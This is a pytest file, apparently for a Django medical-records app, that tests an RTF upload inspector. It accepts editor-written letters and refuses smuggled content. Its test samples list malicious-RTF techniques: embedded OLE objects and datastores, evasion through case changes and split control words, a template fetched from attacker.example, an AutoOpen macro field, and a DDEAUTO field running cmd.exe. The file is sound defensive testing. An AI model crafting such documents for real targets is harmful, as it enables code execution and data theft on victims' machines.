@@ -1,0 +1,193 @@
+# ruff: noqa: E501 (RTF samples are kept as editors write them, one long line each)
+"""RTF is accepted only when every control word is a formatting or text word: letters as
+LibreOffice Writer and WordPad write them pass; each way of smuggling an object, a binary or
+a file-fetching field is refused. Pure tests, every sample written here."""
+
+from __future__ import annotations
+
+import io
+from pathlib import Path
+
+import pytest
+from django.utils import translation
+
+from records.file_types import RejectedFile, inspect_upload
+from records.rtf_checks import CHUNK
+
+LIMIT = 5 * 1024 * 1024
+
+# A one-page letter as LibreOffice Writer 7 saves it (fonts, colours, styles, page styles,
+# a list, a table, a footer with the page number, a web link, a bookmark, accents as \'hh
+# and \u escapes), shortened but with its every kind of control word.
+LIBREOFFICE_LETTER = rb"""{\rtf1\ansi\deff4\adeflang1025
+{\fonttbl{\f0\froman\fprq2\fcharset0 Times New Roman;}{\f1\froman\fprq2\fcharset2 Symbol;}{\f2\fswiss\fprq2\fcharset0 Arial;}{\f3\froman\fprq2\fcharset0 Liberation Serif{\*\falt Times New Roman};}{\f4\fswiss\fprq2\fcharset0 Liberation Sans{\*\falt Arial};}{\f5\fnil\fprq2\fcharset0 Noto Sans CJK SC;}{\f6\fnil\fprq2\fcharset0 OpenSymbol{\*\falt Arial Unicode MS};}}
+{\colortbl;\red0\green0\blue0;\red0\green0\blue128;\red128\green128\blue128;}
+{\stylesheet{\s0\snext0\rtlch\af8\afs24\alang1081 \ltrch\lang1036\langfe2052\hich\af4\loch\ql\widctlpar\hyphpar0\ltrpar\cf0\f4\fs24\lang1036\kerning1\dbch\af5\langfe2052 Normal;}
+{\*\cs15\snext15\cf2\ul\ulc0\langfe255\alang255\lang255 Lien Internet;}
+{\*\cs16\snext16\rtlch\af6 \ltrch\hich\af6\loch\f6 Puces;}
+{\s17\sbasedon0\snext18\rtlch\af8\afs28 \ltrch\hich\af4\loch\ql\widctlpar\hyphpar0\sb240\sa120\keepn\ltrpar\cf0\f4\fs28\lang1036\kerning1\dbch\af5\langfe2052\loch\f4\fs28 Titre;}
+{\s18\sbasedon0\snext18\loch\sl276\slmult1\ql\widctlpar\hyphpar0\sb0\sa140\ltrpar Corps de texte;}
+{\s19\sbasedon0\snext19\loch\ql\widctlpar\hyphpar0\tqc\tx4819\tqr\tx9638\ltrpar Pied de page;}
+}{\*\listtable{\list\listtemplateid1
+{\listlevel\levelnfc23\leveljc0\levelstartat1\levelfollow0{\leveltext \'01\u8226 ?;}{\levelnumbers;}\f6\fi-360\li720}
+{\listlevel\levelnfc23\leveljc0\levelstartat1\levelfollow0{\leveltext \'01\u9702 ?;}{\levelnumbers;}\f6\fi-360\li1080}\listid1}
+}{\*\listoverridetable{\listoverride\listid1\listoverridecount0\ls1}}{\*\generator LibreOffice/7.3.7.2$Linux_X86_64 LibreOffice_project/30$Build-2}{\info{\author Dr Claire Robert}{\creatim\yr2026\mo3\dy12\hr10\min15}{\revtim\yr2026\mo3\dy12\hr10\min42}{\printim\yr0\mo0\dy0\hr0\min0}}{\*\userprops}\deftab709
+\hyphauto1\viewscale100\formshade
+{\*\pgdsctbl
+{\pgdsc0\pgdscuse451\pgwsxn11906\pghsxn16838\marglsxn1134\margrsxn1134\margtsxn1134\margbsxn1134\pgdscnxt0 Default Page Style;}}
+\paperh16838\paperw11906\margl1134\margr1134\margt1134\margb1134\sectd\sbknone\pgndec\sftnnar\saftnnrlc\sectunlocked1\pgwsxn11906\pghsxn16838\marglsxn1134\margrsxn1134\margtsxn1134\margbsxn1134\ftnbj\ftnstart1\ftnrstcont\ftnnar\aenddoc\aftnrstcont\aftnstart1\aftnnrlc
+{\*\ftnsep\chftnsep}{\footer\pard\plain \s19\loch\qc\widctlpar\tqc\tx4819\tqr\tx9638\ltrpar{\field{\*\fldinst  PAGE }{\fldrslt 1}}\par}
+\pgndec\pard\plain \s17\rtlch\af8\afs28 \ltrch\hich\af4\loch\ql\widctlpar\hyphpar0\sb240\sa120\keepn\ltrpar\cf0\f4\fs28{\*\bkmkstart objet}{\loch
+Compte rendu de consultation}{\*\bkmkend objet}
+\par \pard\plain \s18\loch\sl276\slmult1\ql\widctlpar\hyphpar0\sb0\sa140\ltrpar{\loch
+Cher Confr\'e8re,}
+\par \pard\plain \s18\loch\sl276\slmult1\ql\widctlpar\hyphpar0\sb0\sa140\ltrpar{\loch
+J\u8217\'92ai vu en consultation le {\b\ab\loch 12 mars 2026} votre patient pour une {\i\ai\loch fi\'e8vre} \'e0 39\~\'b0C. Il a pay\'e9 25\u8364\'80.}
+\par \pard\plain \ls1\ilvl0\s18\loch\sl276\slmult1\ql\widctlpar\hyphpar0\sb0\sa140\ltrpar\fi-360\li720{\listtext\pard\plain \rtlch\af6 \ltrch\hich\af6\loch\f6 \u8226\'95\tab}{\loch
+Parac\'e9tamol 1\~g, 3 fois par jour.}
+\par \trowd\trql\trleft0\ltrrow\trpaddft3\trpaddt0\trpaddfl3\trpaddl0\trpaddfb3\trpaddb0\trpaddfr3\trpaddr0\clbrdrt\brdrs\brdrw10\brdrcf1\clbrdrl\brdrs\brdrw10\brdrcf1\clbrdrb\brdrs\brdrw10\brdrcf1\cellx4819\clbrdrt\brdrs\brdrw10\brdrcf1\clbrdrl\brdrs\brdrw10\brdrcf1\clbrdrb\brdrs\brdrw10\brdrcf1\clbrdrr\brdrs\brdrw10\brdrcf1\cellx9638
+\pard\plain \intbl\ql\widctlpar{\loch CRP}\cell\pard\plain \intbl\ql\widctlpar{\loch 12\~mg/L}\cell\row\pard
+\par \pard\plain \s18\loch\sl276\slmult1\ql\widctlpar\hyphpar0\sb0\sa140\ltrpar{\field{\*\fldinst HYPERLINK "https://www.ameli.fr/" }{\fldrslt {\*\cs15\cf2\ul\ulc0\langfe255\alang255\lang255 ameli.fr}}}{\loch
+ \endash  Dr Claire Robert}
+\par }"""
+
+WORDPAD_NOTE = (
+    rb"{\rtf1\ansi\ansicpg1252\deff0\nouicompat\deflang1036{\fonttbl{\f0\fnil\fcharset0 Calibri;}}"
+    rb"{\*\generator Riched20 10.0.19041}\viewkind4\uc1 "
+    rb"\pard\sa200\sl276\slmult1\f0\fs22\lang12 Ordonnance : parac\'e9tamol\par"
+    rb"\b Renouveler\b0  si besoin.\par"
+    b"}\r\n\x00"
+)
+
+
+# A letter as Word writes it (Office theme, latent styles, rsids, a hyperlink field), without
+# the \*\datastore that Word 2007 and later append: with it, the file is refused.
+WORD_LETTER = (Path(__file__).parent / "fixtures" / "word_letter.rtf").read_bytes()
+
+
+def verdict(data: bytes) -> str:
+    try:
+        inspect_upload(io.BytesIO(data), max_bytes=LIMIT)
+    except RejectedFile as refused:
+        assert refused.message
+        return refused.code
+    return "accepted"
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        LIBREOFFICE_LETTER,
+        WORDPAD_NOTE,
+        WORD_LETTER,
+        rb"{\rtf1\ansi Bonjour}",
+        rb'{\rtf1 {\field{\*\fldinst HYPERLINK \\l "resultats"}{\fldrslt voir plus bas}}}',
+        rb'{\rtf1 {\field{\*\fldinst HYPERLINK "mailto:secretariat@chu.example"}{\fldrslt x}}}',
+        rb'{\rtf1 {\field{\*\fldinst {\rtlch\fcs1 DATE \\@ "dd/MM/yyyy"}}{\fldrslt 12/03/2026}}}',
+    ],
+    ids=["libreoffice", "wordpad", "word", "minimal", "link-within", "mail-link", "date-field"],
+)
+def test_letters_as_editors_write_them_are_accepted(data):
+    assert verdict(data) == "accepted"
+
+
+def test_a_control_word_cut_between_two_chunks_is_read_whole():
+    # "\fldinst" and "\par" straddle the chunk boundary; the file is read in CHUNK pieces.
+    filler = b"a" * (CHUNK - len(rb"{\rtf1 ") - 4)
+    data = rb"{\rtf1 " + filler + rb"{\field{\*\fldinst PAGE}{\fldrslt 1}}\par}"
+    assert verdict(data) == "accepted"
+    hidden = rb"{\rtf1 " + filler + rb"{\object\objemb{\*\objclass Package}{\objdata 01}}}"
+    assert verdict(hidden) == "rtf_control_word"
+
+
+@pytest.mark.parametrize("shift", range(12))
+def test_every_kind_of_token_is_read_whole_across_the_chunk_boundary(shift):
+    start = rb"{\rtf1 "
+    tokens = rb"caf\'e9\par\u8364\'80\\{\*\bkmkstart x}"
+    filler = b"a" * (CHUNK - len(start) - shift)
+    assert verdict(start + filler + tokens + b"}") == "accepted"
+    assert verdict(start + filler + rb"{\*\objdata 0105}}") == "rtf_control_word"
+
+
+SMUGGLED = {
+    "object": rb"{\rtf1 {\object\objemb{\*\objclass Package}{\*\objdata 0105000002}}}",
+    "objdata-in-a-starred-destination": rb"{\rtf1 Bonjour{\*\objdata 01050000020000000b}}",
+    "objdata-under-a-font-table": rb"{\rtf1{\fonttbl{\f0 Arial;{\objdata 0105}}}Bonjour}",
+    "objclass-alone": rb"{\rtf1 {\*\objclass Equation.3}}",
+    "datastore": rb"{\rtf1 Bonjour{\*\datastore 010500000200000018000000}}",
+    "unknown-starred-destination": rb"{\rtf1 Bonjour{\*\xyzpayload 0105000002}}",
+    "known-word-starred-where-not-a-destination": rb"{\rtf1 {\*\par 0105}}",
+    "uppercase-object": rb"{\rtf1 {\OBJECT\OBJEMB{\OBJDATA 0105}}}",
+    "mixed-case-objdata": rb"{\rtf1 {\ObjData 0105}}",
+    "word-split-by-a-hex-escape": rb"{\rtf1 {\ob\'6aect\objemb 0105}}",
+    "word-split-by-a-line-break": b"{\\rtf1 {\\obj\r\ndata 0105}}",
+    "word-split-by-an-empty-group": rb"{\rtf1 {\obj{}data 0105}}",
+    "binary": rb"{\rtf1 {\pict\pngblip\bin4 MZPE}}",
+    "metafile-picture": rb"{\rtf1 {\pict\wmetafile8\picw10\pich10 0100090000}}",
+    "picture-with-embedded-object": rb"{\rtf1 {\pict\pngblip\objemb 89504e47}}",
+    "attached-template": rb"{\rtf1 {\*\template http://attacker.example/t.dotm}Bonjour}",
+    "form-field-with-macro": rb"{\rtf1 {\*\formfield{\ffentrymcr AutoOpen}}}",
+    "star-then-text": rb"{\rtf1 {\* x\objdata 01}}",
+    "unknown-control-symbol": rb"{\rtf1 a\^b}",
+    "overlong-word": rb"{\rtf1 \o" + b"b" * 40 + rb" x}",
+}
+
+
+@pytest.mark.parametrize("data", SMUGGLED.values(), ids=SMUGGLED.keys())
+def test_every_way_of_smuggling_an_object_is_refused(data):
+    assert verdict(data) == "rtf_control_word"
+
+
+FIELDS = {
+    "includepicture": rb'{\rtf1 {\field{\*\fldinst INCLUDEPICTURE "http://attacker.example/x.png" \\d}{\fldrslt }}}',
+    "includetext": rb'{\rtf1 {\field{\*\fldinst INCLUDETEXT "C:\\\\Users\\\\secret.txt"}{\fldrslt x}}}',
+    "ddeauto": rb'{\rtf1 {\field{\*\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"}}}',
+    "hyperlink-to-a-file": rb'{\rtf1 {\field{\*\fldinst HYPERLINK "file:///C:/x.exe"}{\fldrslt x}}}',
+    "hyperlink-to-a-share": rb'{\rtf1 {\field{\*\fldinst HYPERLINK "\\\\\\\\attacker\\\\s"}{\fldrslt x}}}',
+    "name-with-a-hex-escape": rb'{\rtf1 {\field{\*\fldinst INCLUDE\'50ICTURE "http://a.example/x"}}}',
+    "name-with-a-unicode-escape": rb'{\rtf1 {\field{\*\fldinst \u73 ?NCLUDETEXT "x"}}}',
+    "allowed-name-only-for-readers-without-unicode": (
+        rb'{\rtf1 {\field{\*\fldinst \uc5 \u73 PAGE NCLUDETEXT "x"}}}'  # "I" + skip "PAGE "
+    ),
+    "name-split-over-groups": rb'{\rtf1 {\field{\*\fldinst {INCLUDE}{PICTURE "http://a.example/x"}}}}',
+    "field-nested-in-an-allowed-one": rb'{\rtf1 {\field{\*\fldinst PAGE {\field{\*\fldinst INCLUDETEXT "x"}}}}}',
+    "lowercase-name": rb'{\rtf1 {\field{\*\fldinst includepicture "http://a.example/x"}}}',
+}
+
+
+@pytest.mark.parametrize("data", FIELDS.values(), ids=FIELDS.keys())
+def test_fields_that_fetch_files_or_run_programs_are_refused(data):
+    assert verdict(data) == "rtf_field"
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        rb"{\rtf1 Bonjour}{\object\objdata 0105}",  # a second group behind the document
+        rb"{\rtf1 Bonjour}}",
+        rb"{\rtf1 {Bonjour}",
+        rb"{\rtf1 caf\'zz}",
+        rb"{\rtf1 " + b"{" * 101 + b"x" + b"}" * 101 + b"}",
+    ],
+    ids=["data-after-the-document", "unbalanced-close", "unclosed-group", "bad-hex", "too-deep"],
+)
+def test_malformed_rtf_is_refused_as_damaged(data):
+    assert verdict(data) == "damaged"
+
+
+def test_a_word_letter_with_its_data_store_is_refused():
+    datastore = (
+        rb"{\*\datastore 0105000002000000180000004d73786d6c322e534158584d4c5265616465722e362e3000}"
+    )
+    with_store = WORD_LETTER.rstrip()[:-1] + datastore + b"}"
+    assert verdict(with_store) == "rtf_control_word"
+
+
+def test_the_refusal_names_what_was_found():
+    with translation.override("en"), pytest.raises(RejectedFile) as refused:
+        inspect_upload(io.BytesIO(SMUGGLED["datastore"]), max_bytes=LIMIT)
+    assert "\\*\\datastore" in refused.value.message
+    assert "Save the document as a PDF" in refused.value.message
+    with translation.override("en"), pytest.raises(RejectedFile) as refused:
+        inspect_upload(io.BytesIO(FIELDS["ddeauto"]), max_bytes=LIMIT)
+    assert "DDEAUTO" in refused.value.message
